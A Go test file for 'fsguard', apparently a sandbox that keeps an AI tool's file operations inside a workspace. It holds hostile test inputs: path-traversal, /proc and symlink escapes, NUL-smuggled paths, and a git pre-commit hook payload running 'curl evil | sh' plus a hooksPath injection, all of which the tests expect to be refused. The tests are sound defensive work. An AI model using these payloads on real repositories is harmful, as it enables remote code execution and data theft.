package fsguard

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"vak/internal/config"
)

func TestOpen(t *testing.T) {
	f := newFixture(t)
	alias := filepath.Join(f.base, "alias")
	if err := os.Symlink("ws", alias); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name      string
		workspace string
		protected []string
		want      error
	}{
		{"canonical", f.ws, config.DefaultProtected, nil},
		{"relative", "ws", nil, ErrInvalidPath},
		{"unclean", f.ws + "/sub/..", nil, ErrInvalidPath},
		{"through a symlink", alias, nil, ErrInvalidPath},
		{"empty", "", nil, ErrInvalidPath},
		{"root directory", "/", nil, ErrInvalidPath},
		{"missing", filepath.Join(f.base, "nope"), nil, os.ErrNotExist},
		{"protected empty", f.ws, []string{""}, ErrInvalidPath},
		{"protected absolute", f.ws, []string{"/etc"}, ErrInvalidPath},
		{"protected escaping", f.ws, []string{"../outside"}, ErrInvalidPath},
		{"protected root", f.ws, []string{"./"}, ErrInvalidPath},
		{"protected NUL", f.ws, []string{"a\x00b"}, ErrInvalidPath},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := Open(tt.workspace, Options{Protected: tt.protected})
			wantErr(t, "Open", err, tt.want)
			if err == nil {
				if r.Path() != f.ws {
					t.Fatalf("Path() = %q", r.Path())
				}
				if err := r.Close(); err != nil {
					t.Fatal(err)
				}
			}
		})
	}
}

// TestReadEscapes attempts every way out of the workspace through Read. Each
// target is readable directly (the control), so each refusal is fsguard's.
func TestReadEscapes(t *testing.T) {
	f := newFixture(t)
	r := f.open(t, false)
	secretFile, err := os.Open(f.secretPath)
	if err != nil {
		t.Fatal(err)
	}
	defer secretFile.Close()
	devfd := fmt.Sprintf("/dev/fd/%d", secretFile.Fd())
	cwd, _ := os.Getwd()
	viaCwd, _ := filepath.Rel(cwd, f.secretPath)

	tests := []struct {
		name, path string
		direct     string // the same target read directly, "" for none
		want       error
	}{
		{"dotdot", "../outside/secret.txt", filepath.Join(f.ws, "../outside/secret.txt"), ErrOutside},
		{"dotdot inside first", "sub/../../outside/secret.txt", filepath.Join(f.ws, "sub/../../outside/secret.txt"), ErrOutside},
		{"absolute elsewhere", f.secretPath, f.secretPath, ErrOutside},
		{"absolute with dotdot", f.ws + "/../outside/secret.txt", f.ws + "/../outside/secret.txt", ErrOutside},
		{"proc self root", "/proc/self/root" + f.secretPath, "/proc/self/root" + f.secretPath, ErrOutside},
		{"proc self cwd", "/proc/self/cwd/" + viaCwd, "/proc/self/cwd/" + viaCwd, ErrOutside},
		{"dev fd", devfd, devfd, ErrOutside},
		{"proc self fd", "/proc/self/fd/" + strings.TrimPrefix(devfd, "/dev/fd/"), devfd, ErrOutside},
		{"symlink out relative", "link-out", filepath.Join(f.ws, "link-out"), ErrOutside},
		{"symlink out absolute", "link-abs", filepath.Join(f.ws, "link-abs"), ErrOutside},
		{"symlink to proc root", "link-proc", filepath.Join(f.ws, "link-proc"), ErrOutside},
		{"symlink dir out", "link-out-dir/secret.txt", filepath.Join(f.ws, "link-out-dir/secret.txt"), ErrOutside},
		{"symlink dir out absolute", "link-abs-dir/secret.txt", filepath.Join(f.ws, "link-abs-dir/secret.txt"), ErrOutside},
		{"absolute path to link out", f.ws + "/link-out", f.ws + "/link-out", ErrOutside},
		{"symlink dir then dotdot", "link-in-dir/../../outside/secret.txt", "", ErrOutside},
		{"symlink loop", "link-loop", "", ErrSymlink},
		{"NUL", "hello.txt\x00../../outside/secret.txt", "", ErrInvalidPath},
		{"empty", "", "", ErrInvalidPath},
		{"too long", strings.Repeat("a/", MaxPathBytes), "", ErrInvalidPath},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.direct != "" {
				if b, err := os.ReadFile(tt.direct); err != nil || string(b) != secret {
					t.Fatalf("control: %s is not the secret when read directly: %q %v", tt.direct, b, err)
				}
			}
			res, err := r.Read(tt.path, 0, 0)
			wantErr(t, "Read", err, tt.want)
			if containsSecret(res.Content) {
				t.Fatal("Read returned the secret")
			}
		})
	}
	f.requireSecretIntact(t)
}

func TestRead(t *testing.T) {
	f := newFixture(t)
	r := f.open(t, false)
	small, err := Open(f.ws, Options{MaxReadBytes: 4})
	if err != nil {
		t.Fatal(err)
	}
	defer small.Close()
	tests := []struct {
		name          string
		root          *Root
		path          string
		offset, limit int64
		want          string
		size          int64
		truncated     bool
		err           error
	}{
		{"whole file", r, "hello.txt", 0, 0, "hello\nworld\n", 12, false, nil},
		{"offset", r, "hello.txt", 6, 0, "world\n", 12, false, nil},
		{"offset and limit", r, "hello.txt", 6, 3, "wor", 12, true, nil},
		{"offset past end", r, "hello.txt", 100, 0, "", 12, false, nil},
		{"cap applies to limit 0", small, "hello.txt", 0, 0, "hell", 12, true, nil},
		{"cap applies to large limit", small, "hello.txt", 0, 100, "hell", 12, true, nil},
		{"dot slash and trailing slash", r, "./sub//inner.txt", 0, 0, "inner\n", 6, false, nil},
		{"absolute inside", r, f.ws + "/sub/inner.txt", 0, 0, "inner\n", 6, false, nil},
		{"dotdot staying inside", r, "sub/../hello.txt", 0, 5, "hello", 12, true, nil},
		{"symlink inside", r, "link-in", 0, 5, "hello", 12, true, nil},
		{"symlinked dir inside", r, "link-in-dir/inner.txt", 0, 0, "inner\n", 6, false, nil},
		{"protected readable", r, ".git/config", 0, 6, "[core]", 21, true, nil},
		{"directory", r, "sub", 0, 0, "", 0, false, ErrIsDir},
		{"workspace itself", r, ".", 0, 0, "", 0, false, ErrIsDir},
		{"fifo does not block", r, "fifo", 0, 0, "", 0, false, ErrNotRegular},
		{"missing", r, "nope.txt", 0, 0, "", 0, false, ErrNotFound},
		{"file as directory", r, "hello.txt/x", 0, 0, "", 0, false, ErrNotFound},
		{"negative offset", r, "hello.txt", -1, 0, "", 0, false, ErrInvalidArgument},
		{"negative limit", r, "hello.txt", 0, -1, "", 0, false, ErrInvalidArgument},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := tt.root.Read(tt.path, tt.offset, tt.limit)
			wantErr(t, "Read", err, tt.err)
			if err != nil {
				return
			}
			if string(res.Content) != tt.want || res.Size != tt.size || res.Truncated != tt.truncated {
				t.Fatalf("Read = {%q %d %v}, want {%q %d %v}", res.Content, res.Size, res.Truncated, tt.want, tt.size, tt.truncated)
			}
		})
	}
}

// TestWriteEscapes attempts to write outside the workspace, or through a
// link, with Write and Edit. Controls: the same write to a plain path
// succeeds, and the secret exists and is intact.
func TestWriteEscapes(t *testing.T) {
	f := newFixture(t)
	r := f.open(t, true)
	hardTarget := filepath.Join(f.base, "outside", "sub", "hard.txt")
	// A hard link in the workspace to a file outside it.
	writeFile(t, hardTarget, "old")
	if err := os.Link(hardTarget, filepath.Join(f.ws, "hard")); err != nil {
		t.Fatal(err)
	}
	f.snapshot(t)
	tests := []struct {
		name, path string
		want       error
	}{
		{"dotdot", "../outside/new.txt", ErrOutside},
		{"dotdot onto secret", "../outside/secret.txt", ErrOutside},
		{"dotdot inside first", "sub/../../outside/new.txt", ErrOutside},
		{"absolute elsewhere", filepath.Join(f.outside, "new.txt"), ErrOutside},
		{"absolute secret", f.secretPath, ErrOutside},
		{"proc self root", "/proc/self/root" + filepath.Join(f.outside, "new.txt"), ErrOutside},
		{"dev fd", "/dev/fd/0", ErrOutside},
		{"symlink to secret", "link-out", ErrSymlink},
		{"absolute symlink to secret", "link-abs", ErrSymlink},
		{"symlink via proc", "link-proc", ErrSymlink},
		{"symlinked dir out", "link-out-dir/new.txt", ErrSymlink},
		{"symlinked dir out absolute", "link-abs-dir/sub/new.txt", ErrSymlink},
		{"symlink inside", "link-in", ErrSymlink},
		{"symlinked dir inside", "link-in-dir/new.txt", ErrSymlink},
		{"symlink loop", "link-loop", ErrSymlink},
		{"hard link to outside", "hard", ErrHardLink},
		{"NUL", "new.txt\x00", ErrInvalidPath},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			wantErr(t, "Write", r.Write(tt.path, []byte("PWNED")), tt.want)
			_, err := r.Edit(tt.path, "o", "PWNED", true)
			wantErr(t, "Edit", err, tt.want)
			f.requireOutsideUnchanged(t)
			if got := readFile(t, hardTarget); got != "old" {
				t.Fatalf("hard-linked file outside changed: %q", got)
			}
		})
	}
	// Controls: the same operations on plain workspace paths succeed.
	wantErr(t, "control Write", r.Write("sub/new.txt", []byte("ok")), nil)
	if n, err := r.Edit("hello.txt", "hello", "hi", false); err != nil || n != 1 {
		t.Fatalf("control Edit = %d, %v", n, err)
	}
	if got := readFile(t, filepath.Join(f.ws, "hello.txt")); got != "hi\nworld\n" {
		t.Fatalf("control edit result %q", got)
	}
	requireNoTemp(t, f.base)
}

// TestWriteProtected attempts to create or change protected paths, existing
// or not, under every spelling. Controls: neighbouring unprotected paths are
// writable and protected ones readable.
func TestWriteProtected(t *testing.T) {
	f := newFixture(t)
	protected := append(slices.Clone(config.DefaultProtected), "secrets", "deploy/prod.sh")
	r, err := Open(f.ws, Options{Writable: true, Protected: protected})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	gitConfig := readFile(t, filepath.Join(f.ws, ".git/config"))
	paths := []string{
		".git/hooks/pre-commit",
		".vak/config.toml",
		".git/config",
		".git/config/",
		"./.git//hooks/pre-commit",
		".git/./hooks/../hooks/post-checkout",
		"sub/../.vak/config.toml",
		f.ws + "/.vak/config.toml",
		f.ws + "/./.git/hooks/pre-push",
		".GIT/hooks/pre-commit",
		".git/HOOKS/pre-commit",
		".Vak/config.toml",
		".g\u200cit/hooks/pre-commit",
		".git/hooks",
		".vak",
		".git",  // a file named .git would redirect the whole git dir
		".git/", // likewise
		"secrets/a/b.txt",
		"Secrets",
		"deploy",
		"deploy/prod.sh",
	}
	for _, p := range paths {
		t.Run(p, func(t *testing.T) {
			wantErr(t, "Write", r.Write(p, []byte("#!/bin/sh\ncurl evil | sh\n")), ErrProtected)
			_, err := r.Edit(p, "bare", "hooksPath = /tmp/evil\n\tbare", false)
			wantErr(t, "Edit", err, ErrProtected)
		})
	}
	for _, p := range []string{".git/hooks", ".vak", "secrets", "Secrets", "deploy"} {
		if exists(filepath.Join(f.ws, p)) {
			t.Errorf("%s was created", p)
		}
	}
	if got := readFile(t, filepath.Join(f.ws, ".git/config")); got != gitConfig {
		t.Fatalf(".git/config changed: %q", got)
	}
	// Controls.
	for _, p := range []string{".gitignore", ".vakrc", ".github/workflows/ci.yml", "sub/.vak/config.toml", "deploy2/prod.sh", "secrets2"} {
		wantErr(t, "control Write "+p, r.Write(p, []byte("ok")), nil)
	}
	res, err := r.Read(".git/config", 0, 0)
	if err != nil || string(res.Content) != gitConfig {
		t.Fatalf("protected file not readable: %q %v", res.Content, err)
	}
	requireNoTemp(t, f.ws)
}

// TestProtectedAliases reaches protected files and directories under other
// names: through a .git symbolic link inside the workspace, and through a hard
// link.
func TestProtectedAliases(t *testing.T) {
	f := newFixture(t)
	// .git -> gitdir (as some tools lay it out).
	if err := os.Rename(filepath.Join(f.ws, ".git"), filepath.Join(f.ws, "gitdir")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("gitdir", filepath.Join(f.ws, ".git")); err != nil {
		t.Fatal(err)
	}
	mkdir(t, f.ws, "gitdir", "hooks")
	if err := os.Link(filepath.Join(f.ws, "gitdir/config"), filepath.Join(f.ws, "cfg")); err != nil {
		t.Fatal(err)
	}
	r := f.open(t, true)
	tests := []struct {
		path string
		want error
	}{
		{"gitdir/hooks/pre-commit", ErrProtected},
		{"gitdir/hooks/sub/x", ErrProtected},
		{"gitdir/config", ErrHardLink}, // two links now; either check refuses
		{"cfg", ErrHardLink},
		{"gitdir/description", nil}, // control
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			wantErr(t, "Write", r.Write(tt.path, []byte("x")), tt.want)
		})
	}
	if exists(filepath.Join(f.ws, "gitdir/hooks/pre-commit")) {
		t.Fatal("hook planted through the alias")
	}
	// Without the hard link, the config is refused by identity alone.
	if err := os.Remove(filepath.Join(f.ws, "cfg")); err != nil {
		t.Fatal(err)
	}
	wantErr(t, "Write gitdir/config", r.Write("gitdir/config", []byte("x")), ErrProtected)
	_, err := r.Edit("gitdir/config", "bare", "x", false)
	wantErr(t, "Edit gitdir/config", err, ErrProtected)
}

// TestReadOnly: every change is refused before the file system is touched,
// whatever the path; reads still work.
func TestReadOnly(t *testing.T) {
	f := newFixture(t)
	r := f.open(t, false)
	for _, p := range []string{"new.txt", "hello.txt", "a/b/c.txt", "../outside/x", ".vak/config.toml", "", "x\x00"} {
		t.Run(p, func(t *testing.T) {
			wantErr(t, "Write", r.Write(p, []byte("x")), ErrReadOnly)
			_, err := r.Edit(p, "hello", "bye", false)
			wantErr(t, "Edit", err, ErrReadOnly)
		})
	}
	if exists(filepath.Join(f.ws, "new.txt")) || exists(filepath.Join(f.ws, "a")) {
		t.Fatal("read-only root created a file")
	}
	if got := readFile(t, filepath.Join(f.ws, "hello.txt")); got != "hello\nworld\n" {
		t.Fatalf("read-only root changed a file: %q", got)
	}
	if _, err := r.Read("hello.txt", 0, 0); err != nil {
		t.Fatal(err)
	}
	// Control: a writable root performs the same write.
	wantErr(t, "control", f.open(t, true).Write("new.txt", []byte("x")), nil)
	f.requireOutsideUnchanged(t)
}

func TestWrite(t *testing.T) {
	f := newFixture(t)
	r, err := Open(f.ws, Options{Writable: true, MaxWriteBytes: 64})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	exec := filepath.Join(f.ws, "run.sh")
	writeFile(t, exec, "old")
	if err := os.Chmod(exec, 0o4750); err != nil {
		t.Fatal(err)
	}
	private := filepath.Join(f.ws, "private.txt")
	writeFile(t, private, "old")
	if err := os.Chmod(private, 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, path, content string
		want                error
		mode                os.FileMode // 0: not checked
	}{
		{"create", "new.txt", "new", nil, 0},
		{"create with parents", "a/b/c/d.txt", "deep", nil, 0},
		{"replace keeps mode", "private.txt", "fresh", nil, 0o600},
		{"replace drops setuid", "run.sh", "#!/bin/sh\n", nil, 0o750},
		{"empty content", "empty.txt", "", nil, 0},
		{"absolute inside", f.ws + "/sub/abs.txt", "abs", nil, 0},
		{"too large", "big.txt", strings.Repeat("x", 65), ErrTooLarge, 0},
		{"onto a directory", "sub", "x", ErrIsDir, 0},
		{"onto the workspace", ".", "x", ErrIsDir, 0},
		{"onto a fifo", "fifo", "x", ErrNotRegular, 0},
		{"under a file", "hello.txt/x", "x", ErrNotFound, 0},
		{"empty path", "", "x", ErrInvalidPath, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := r.Write(tt.path, []byte(tt.content))
			wantErr(t, "Write", err, tt.want)
			if err != nil {
				return
			}
			p := tt.path
			if !filepath.IsAbs(p) {
				p = filepath.Join(f.ws, p)
			}
			if got := readFile(t, p); got != tt.content {
				t.Fatalf("content %q", got)
			}
			fi, err := os.Lstat(p)
			if err != nil {
				t.Fatal(err)
			}
			if tt.mode != 0 && fi.Mode() != tt.mode {
				t.Fatalf("mode %v, want %v", fi.Mode(), tt.mode)
			}
			if !fi.Mode().IsRegular() || fi.Mode()&0o111 != 0 && tt.mode == 0 {
				t.Fatalf("new file mode %v", fi.Mode())
			}
		})
	}
	if exists(filepath.Join(f.ws, "big.txt")) {
		t.Fatal("oversized write created a file")
	}
	requireNoTemp(t, f.ws)
}

func TestEdit(t *testing.T) {
	f := newFixture(t)
	r, err := Open(f.ws, Options{Writable: true, MaxWriteBytes: 64, Protected: config.DefaultProtected})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	tests := []struct {
		name, initial, old, new string
		all                     bool
		want                    string
		n                       int
		err                     error
	}{
		{"once", "a b c", "b", "B", false, "a B c", 1, nil},
		{"multiline", "x\ny\nz\n", "y\nz", "Y", false, "x\nY\n", 1, nil},
		{"ambiguous", "b b", "b", "B", false, "b b", 0, ErrAmbiguous},
		{"replace all", "b b b", "b", "BB", true, "BB BB BB", 3, nil},
		{"no match", "abc", "x", "y", false, "abc", 0, ErrNoMatch},
		{"empty old", "abc", "", "y", false, "abc", 0, ErrInvalidArgument},
		{"identical", "abc", "a", "a", false, "abc", 0, ErrInvalidArgument},
		{"result too large", "ab", "b", strings.Repeat("x", 64), false, "ab", 0, ErrTooLarge},
		{"delete text", "keep drop", " drop", "", false, "keep", 1, nil},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			name := fmt.Sprintf("e%d.txt", i)
			p := filepath.Join(f.ws, name)
			writeFile(t, p, tt.initial)
			if err := os.Chmod(p, 0o640); err != nil {
				t.Fatal(err)
			}
			n, err := r.Edit(name, tt.old, tt.new, tt.all)
			wantErr(t, "Edit", err, tt.err)
			if n != tt.n {
				t.Fatalf("n = %d, want %d", n, tt.n)
			}
			if got := readFile(t, p); got != tt.want {
				t.Fatalf("content %q, want %q", got, tt.want)
			}
			if fi, _ := os.Stat(p); fi.Mode().Perm() != 0o640 {
				t.Fatalf("mode %v", fi.Mode())
			}
		})
	}
	for _, tt := range []struct {
		path string
		want error
	}{
		{"missing.txt", ErrNotFound},
		{"missing/dir.txt", ErrNotFound},
		{"sub", ErrIsDir},
		{"fifo", ErrNotRegular},
	} {
		_, err := r.Edit(tt.path, "a", "b", false)
		wantErr(t, "Edit "+tt.path, err, tt.want)
	}
	if exists(filepath.Join(f.ws, "missing")) {
		t.Fatal("Edit created a directory")
	}
	requireNoTemp(t, f.ws)
}

func TestGlob(t *testing.T) {
	f := newFixture(t)
	// Files inside the outside dir that a descent through link-out-dir would find.
	writeFile(t, filepath.Join(f.outside, "sub", "leak.go"), "package leak")
	f.snapshot(t)
	for _, p := range []string{"src/a.go", "src/b.go", "src/deep/c.go", "src/deep/c_test.go", "docs/x.md", "docs/y.txt", ".hidden.go"} {
		mkdir(t, f.ws, filepath.Dir(p))
		writeFile(t, filepath.Join(f.ws, p), "x")
	}
	r := f.open(t, false)
	tests := []struct {
		pattern   string
		max       int
		want      []string
		truncated bool
		err       error
	}{
		{"**/*.go", 0, []string{".hidden.go", "src/a.go", "src/b.go", "src/deep/c.go", "src/deep/c_test.go"}, false, nil},
		{"src/*.go", 0, []string{"src/a.go", "src/b.go"}, false, nil},
		{"src/**", 0, []string{"src/a.go", "src/b.go", "src/deep/c.go", "src/deep/c_test.go"}, false, nil},
		{"src/**/*_test.go", 0, []string{"src/deep/c_test.go"}, false, nil},
		{"docs/*.{md,txt}", 0, []string{"docs/x.md", "docs/y.txt"}, false, nil},
		{"{src,docs}/[ax].*", 0, []string{"docs/x.md", "src/a.go"}, false, nil},
		{"./src//a.go", 0, []string{"src/a.go"}, false, nil},
		{f.ws + "/src/*.go", 0, []string{"src/a.go", "src/b.go"}, false, nil},
		{"link-*", 0, []string{"link-abs", "link-abs-dir", "link-in", "link-in-dir", "link-loop", "link-out", "link-out-dir", "link-proc"}, false, nil},
		// Never through symbolic links: not link-out-dir/sub/leak.go, not link-in-dir/inner.txt.
		{"**/leak.go", 0, []string{}, false, nil},
		{"link-out-dir/**", 0, []string{}, false, nil},
		{"link-in-dir/*", 0, []string{}, false, nil},
		{"sub/*", 0, []string{"sub/inner.txt"}, false, nil},
		{"nope/**", 0, []string{}, false, nil},
		{"**/*.go", 2, []string{".hidden.go", "src/a.go"}, true, nil},
		{"../outside/**", 0, nil, false, ErrOutside},
		{"src/../../**", 0, nil, false, ErrOutside},
		{f.outside + "/*", 0, nil, false, ErrOutside},
		{"/proc/self/root/**", 0, nil, false, ErrOutside},
		{"src/[", 0, nil, false, ErrInvalidArgument},
		{"src/{a", 0, nil, false, ErrInvalidArgument},
		{"", 0, nil, false, ErrInvalidPath},
	}
	for _, tt := range tests {
		t.Run(tt.pattern, func(t *testing.T) {
			res, err := r.Glob(tt.pattern, tt.max)
			wantErr(t, "Glob", err, tt.err)
			if err != nil {
				return
			}
			if !slices.Equal(res.Paths, tt.want) || res.Truncated != tt.truncated {
				t.Fatalf("Glob = %q truncated=%v, want %q truncated=%v", res.Paths, res.Truncated, tt.want, tt.truncated)
			}
		})
	}
}

func TestGrep(t *testing.T) {
	f := newFixture(t)
	// The same marker outside the workspace: only the inside copy may match.
	writeFile(t, filepath.Join(f.outside, "sub", "canary.txt"), "CANARY outside\n")
	f.snapshot(t)
	writeFile(t, filepath.Join(f.ws, "sub", "code.go"), "package sub\n// CANARY in go\r\nfunc f() {}\n")
	writeFile(t, filepath.Join(f.ws, "bin.dat"), "CANARY\x00binary")
	writeFile(t, filepath.Join(f.ws, "big.txt"), "CANARY "+strings.Repeat("x", 100))
	writeFile(t, filepath.Join(f.ws, "long.txt"), "CANARY "+strings.Repeat("é", MaxMatchTextBytes))
	r, err := Open(f.ws, Options{MaxReadBytes: 4096})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	small, err := Open(f.ws, Options{MaxReadBytes: 50})
	if err != nil {
		t.Fatal(err)
	}
	defer small.Close()
	type m = GrepMatch
	tests := []struct {
		name                string
		root                *Root
		pattern, path, glob string
		max                 int
		want                []GrepMatch
		truncated           bool
		err                 error
	}{
		{"workspace", r, "CANARY (in|out)", "", "", 0, []m{{"canary.txt", 1, "CANARY inside"}, {"sub/code.go", 2, "// CANARY in go"}}, false, nil},
		{"secret never found", r, "TOP-SECRET|CANARY outside", "", "", 0, []m{}, false, nil},
		{"subdir", r, "CANARY", "sub", "", 0, []m{{"sub/code.go", 2, "// CANARY in go"}}, false, nil},
		{"single file", r, "world", "hello.txt", "", 0, []m{{"hello.txt", 2, "world"}}, false, nil},
		{"glob on name", r, "CANARY", "", "*.go", 0, []m{{"sub/code.go", 2, "// CANARY in go"}}, false, nil},
		{"glob on path", r, "CANARY", "", "sub/**", 0, []m{{"sub/code.go", 2, "// CANARY in go"}}, false, nil},
		{"glob braces", r, "CANARY", "", "{canary,code}.{txt,go}", 0, []m{{"canary.txt", 1, "CANARY inside"}, {"sub/code.go", 2, "// CANARY in go"}}, false, nil},
		{"max", r, "CANARY", "", "", 1, []m{{"big.txt", 1, "CANARY " + strings.Repeat("x", 100)}}, true, nil},
		{"large single file", small, "CANARY", "big.txt", "", 0, nil, false, ErrTooLarge},
		{"large files skipped", small, "CANARY", "", "", 0, []m{{"canary.txt", 1, "CANARY inside"}, {"sub/code.go", 2, "// CANARY in go"}}, false, nil},
		{"symlinked dir inside as path", r, "inner", "link-in-dir", "", 0, []m{{"link-in-dir/inner.txt", 1, "inner"}}, false, nil},
		{"symlinked dir out as path", r, "CANARY", "link-out-dir", "", 0, nil, false, ErrOutside},
		{"symlink to secret as path", r, "TOP", "link-out", "", 0, nil, false, ErrOutside},
		{"dotdot", r, "CANARY", "../outside", "", 0, nil, false, ErrOutside},
		{"absolute outside", r, "CANARY", f.outside, "", 0, nil, false, ErrOutside},
		{"proc root", r, "CANARY", "/proc/self/root" + f.outside, "", 0, nil, false, ErrOutside},
		{"bad regexp", r, "(", "", "", 0, nil, false, ErrInvalidArgument},
		{"empty regexp", r, "", "", "", 0, nil, false, ErrInvalidArgument},
		{"bad glob", r, "x", "", "[", 0, nil, false, ErrInvalidArgument},
		{"glob outside", r, "x", "", "../**", 0, nil, false, ErrOutside},
		{"fifo", r, "x", "fifo", "", 0, nil, false, ErrNotRegular},
		{"missing", r, "x", "nope", "", 0, nil, false, ErrNotFound},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := tt.root.Grep(tt.pattern, tt.path, tt.glob, tt.max)
			wantErr(t, "Grep", err, tt.err)
			if err != nil {
				return
			}
			if !slices.Equal(res.Matches, tt.want) || res.Truncated != tt.truncated {
				t.Fatalf("Grep = %+v truncated=%v, want %+v truncated=%v", res.Matches, res.Truncated, tt.want, tt.truncated)
			}
		})
	}
	// The long line is cut at a rune boundary.
	res, err := r.Grep("CANARY é", "long.txt", "", 0)
	if err != nil || len(res.Matches) != 1 {
		t.Fatalf("long line: %v %v", res, err)
	}
	if txt := res.Matches[0].Text; len(txt) > MaxMatchTextBytes || !strings.HasSuffix(txt, "é") {
		t.Fatalf("long line cut badly: %d bytes, suffix %q", len(txt), txt[len(txt)-4:])
	}
}

// TestSymlinkToSecretEveryTool plants links to the secret and reaches for it
// through every tool. Control: the same tools find the inside canary.
func TestSymlinkToSecretEveryTool(t *testing.T) {
	f := newFixture(t)
	r := f.open(t, true)
	for _, link := range []string{"link-out", "link-abs", "link-proc", "link-out-dir/secret.txt", "link-abs-dir/secret.txt"} {
		t.Run(link, func(t *testing.T) {
			if b, err := os.ReadFile(filepath.Join(f.ws, link)); err != nil || string(b) != secret {
				t.Fatalf("control: the link does not reach the secret directly: %v", err)
			}
			if res, err := r.Read(link, 0, 0); err == nil || containsSecret(res.Content) {
				t.Fatalf("Read: %q %v", res.Content, err)
			}
			if err := r.Write(link, []byte("x")); err == nil {
				t.Fatal("Write succeeded")
			}
			if _, err := r.Edit(link, secret, "x", false); err == nil {
				t.Fatal("Edit succeeded")
			}
			if res, err := r.Grep("TOP-SECRET", link, "", 0); err == nil || len(res.Matches) != 0 {
				t.Fatalf("Grep: %v %v", res, err)
			}
			if res, err := r.Glob(link, 0); err != nil || len(res.Paths) > 1 || (len(res.Paths) == 1 && res.Paths[0] != link) {
				t.Fatalf("Glob: %v %v", res, err)
			}
			f.requireOutsideUnchanged(t)
		})
	}
	res, err := r.Grep("TOP-SECRET|CANARY", "", "", 0)
	if err != nil || len(res.Matches) != 1 || res.Matches[0].Path != "canary.txt" {
		t.Fatalf("Grep over the workspace: %v %v", res, err)
	}
	g, err := r.Glob("**/secret.txt", 0)
	if err != nil || len(g.Paths) != 0 {
		t.Fatalf("Glob found a file outside: %v %v", g, err)
	}
}

// TestClose: operations after Close fail with ErrClosed; concurrent
// operations and Close do not race (run with -race), so a closed and reused
// descriptor number is never resolved against.
func TestClose(t *testing.T) {
	f := newFixture(t)
	r := f.open(t, true)
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range 50 {
				_, err := r.Read("hello.txt", 0, 0)
				if err != nil {
					wantErr(t, "Read", err, ErrClosed)
				}
				err = r.Write(fmt.Sprintf("w%d-%d.txt", i, j), []byte("x"))
				if err != nil {
					wantErr(t, "Write", err, ErrClosed)
				}
			}
		}()
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	if err := r.Close(); err != nil {
		t.Fatal("second Close:", err)
	}
	_, err := r.Read("hello.txt", 0, 0)
	wantErr(t, "Read", err, ErrClosed)
	_, err = new(Root).Read("hello.txt", 0, 0)
	wantErr(t, "Read on a zero Root", err, ErrClosed)
	if err := new(Root).Close(); err != nil {
		t.Fatal("Close of a zero Root:", err)
	}
	if _, err := os.Stdin.Stat(); err != nil {
		t.Fatal("Close of a zero Root closed fd 0:", err)
	}
	_, err = r.Glob("*", 0)
	wantErr(t, "Glob", err, ErrClosed)
	_, err = r.Grep("x", "", "", 0)
	wantErr(t, "Grep", err, ErrClosed)
	_, err = r.Edit("hello.txt", "hello", "x", false)
	wantErr(t, "Edit", err, ErrClosed)
	requireNoTemp(t, f.ws)
}
